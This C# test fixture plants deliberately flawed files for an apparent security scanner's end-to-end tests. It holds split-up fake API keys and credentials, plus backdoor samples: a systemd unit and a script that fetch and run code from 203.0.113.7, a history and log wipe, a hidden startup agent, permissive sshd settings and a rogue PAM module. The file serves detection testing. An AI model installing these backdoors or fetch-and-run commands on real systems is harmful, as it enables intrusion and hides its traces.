namespace Skep.EndToEnd.Tests.EverythingWrong;

/// <summary>Files that are wrong all by themselves, a rule each.</summary>
/// <remarks>What looks like a secret is put together here, so that it stands nowhere in the repository.</remarks>
internal static class PlantedFiles
{
    private static readonly string Filling = new('x', 4096);

    public static IReadOnlyList<Planted> All { get; } = [.. Secrets, .. Data, .. Persistence, .. Scripts, .. Settings];

    private static IEnumerable<Planted> Secrets =>
    [
        Secret("secrets/stripe/live-key", "srv/billing.yaml", "stripe:\n  key: sk_l", "ive_KRtPpCDBM3HM6cT3sOSluN87\n"),
        Secret("secrets/gitlab/personal-token", "srv/deploy.sh", "TOKEN=glp", "at-Zq7xKp2wLmN4vBt9Rs3Y\n"),
        Secret("secrets/slack/webhook", "srv/notify.py", "URL = 'https://hooks.slack",
            ".com/services/T0QW7RX2P/B0LK4ND8S/v7Rk2mXp9QzL4tNw8BsYc3Hd'\n"),
        Secret("secrets/alibaba/access-key", "srv/oss.ini", "id = LTA", "I5tQz8RkP2mXwN7vLb4Yc\n"),
        Secret("secrets/database/mongodb-url", "srv/app.json", "{\"url\": \"mongodb://svc:q8Zr",
            "T2kW9xLm@db.internal:27017/x\"}"),
        Secret("secrets/host/netrc", "root/.netrc", "machine git.internal login ci pass", "word q8ZrT2kW9xLm\n"),
        Secret("secrets/npm/npmrc-token", "root/.npmrc", "//npm.internal/:_auth",
            "Token=3f9b2c71-8d4e-4a6f-b05c-7e1d92a8c364\n"),
        Secret("secrets/host/htpasswd", "etc/nginx/.htpasswd", "admin:$apr1", "$Qz8RkP2m$4hXwN7vLbYc3HdT9sKqJf1\n"),
        Secret("secrets/tencent/secret-id", "srv/cos.ini", "secret_id = AKI", "Dz8krbsJ5yKBZQpn74WFkmLPx3EXAMPLf\n"),
    ];

    private static IEnumerable<Planted> Data =>
    [
        File("secrets/file/shell-history", "root/.bash_history", "cd /srv\nmysql -u root\n"),
        File("secrets/file/git-repository", "srv/.git/HEAD", "ref: refs/heads/main\n"),
        File("secrets/file/mysql-dump", "srv/shop.sql", "-- MySQL dump 10.13  Distrib 8.0\n" + Filling),
        File("secrets/file/terraform-state", "srv/terraform.tfstate", "{\"version\": 4, \"resources\": [" + Filling),
    ];

    private static IEnumerable<Planted> Persistence =>
    [
        Backdoor("malware/persistence/systemd", "etc/systemd/system/sync.service",
            "[Service]\nExecStart=/bin/sh -c \"curl -s http://203.0.113.7/s | " + "sh\"\n"),
        Backdoor("malware/persistence/shell-profile", "etc/profile.d/zz.sh", "nohup /tmp/.x/agent >/dev/null 2>&1 &\n"),
        Backdoor("malware/persistence/sshd", "etc/ssh/sshd_config", "PermitRootLogin yes\nPermitEmptyPasswords yes\n"),
        Backdoor("malware/persistence/pam", "etc/pam.d/sshd", "auth sufficient /tmp/pam_any.so\n"),
    ];

    private static IEnumerable<Planted> Scripts =>
    [
        Backdoor("malware/script/download-and-run", "opt/get.sh",
            "#!/bin/sh\ncurl -fsSL http://203.0.113.7/payload -o /tmp/p && chmod +x /tmp/p && " + "/tmp/p\n"),
        Backdoor("malware/script/history-wipe", "opt/clean.sh",
            "#!/bin/sh\nunset HISTFILE\nrm -f ~/.bash_history /var/log/wtmp /var/log/" + "lastlog\nhistory -c\n"),
    ];

    private static IEnumerable<Planted> Settings =>
    [
        File("config/packages/unverified-repository", "etc/apt/sources.list.d/x.sources", "Trusted: yes\n"),
        File("config/network/unverified-tls", "root/.curlrc", "insecure\n"),
    ];

    // The longest word behind the break is what may be seen nowhere.
    private static Planted Secret(string rule, string path, string first, string rest) =>
        File(rule, path, first + rest) with
        {
            Value = string.Concat(rest.Select(c => char.IsAsciiLetterOrDigit(c) ? c : ' ')).Split(' ')
                .MaxBy(word => word.Length),
        };

    private static Planted File(string rule, string path, string content) =>
        new(rule, path, EverythingWrongImage.Application) { Content = content };

    private static Planted Backdoor(string rule, string path, string content) =>
        new(rule, path, EverythingWrongImage.Backdoors) { Content = content };
}
